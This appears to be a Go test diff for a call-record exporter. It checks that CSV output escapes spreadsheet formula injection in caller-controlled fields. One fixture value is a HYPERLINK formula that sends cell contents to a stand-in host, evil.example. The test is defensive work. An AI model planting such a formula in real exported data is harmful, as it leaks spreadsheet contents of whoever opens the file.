@@ -169,3 +169,80 @@ func TestCSVFilesDailyIdempotentAndTornTail(t *testing.T) {
 		t.Fatalf("after torn tail and replay: %v", ids(got))
 	}
 }
+
+// formulaRecord carries, in fields a caller controls, every start of a cell
+// that a spreadsheet would run as a formula.
+func formulaRecord() (Record, map[string]string) {
+	r := fullRecord(5)
+	r.CallerNumber = "=2+5"
+	r.CallerName = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	r.CalledReceived = "+4930123456"
+	r.CalledSent = "-1+1"
+	r.UserAgentA = "@SUM(1,1)"
+	r.UserAgentB = "\t=1"
+	return r, map[string]string{
+		"caller_number": "'=2+5", "caller_name": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"called_received": "'+4930123456", "called_sent": "'-1+1", "user_agent_a": "'@SUM(1,1)",
+		"user_agent_b": "'\t=1",
+		"account":      "acct-7", "source_ip": "192.0.2.17", // untouched
+	}
+}
+
+// checkNeutralised reads CSV raw and checks the cells of want's columns.
+func checkNeutralised(t *testing.T, r io.Reader, want map[string]string) {
+	t.Helper()
+	rows, err := csv.NewReader(r).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for i, c := range rows[0] {
+		if w, ok := want[c]; ok && rows[1][i] != w {
+			t.Errorf("%s: cell %q, want %q", c, rows[1][i], w)
+		}
+	}
+}
+
+// TestCSVCell covers CR too, which encoding/csv's reader drops when the
+// files are read back.
+func TestCSVCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
+		"": "", "4930": "4930", "a=1": "a=1", " =1": " =1", "'=1": "'=1",
+	} {
+		if got := csvCell(in); got != want {
+			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	rec, want := formulaRecord()
+	t.Run("export", func(t *testing.T) {
+		db := migratedDB(t, testenv.SharedPostgres(t).NewDatabase(t))
+		if err := NewPGWriter(db).Write(context.Background(), []Record{rec}); err != nil {
+			t.Fatal(err)
+		}
+		var buf bytes.Buffer
+		if err := Export(context.Background(), db, Filter{}, &buf); err != nil {
+			t.Fatal(err)
+		}
+		checkNeutralised(t, &buf, want)
+	})
+	t.Run("daily files", func(t *testing.T) {
+		dir := t.TempDir()
+		c, err := OpenCSVFiles(dir, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := c.Write(context.Background(), []Record{rec}); err != nil {
+			t.Fatal(err)
+		}
+		c.Close()
+		f, err := os.Open(filepath.Join(dir, "cdr-2026-11-22.csv"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer f.Close()
+		checkNeutralised(t, f, want)
+	})
+}
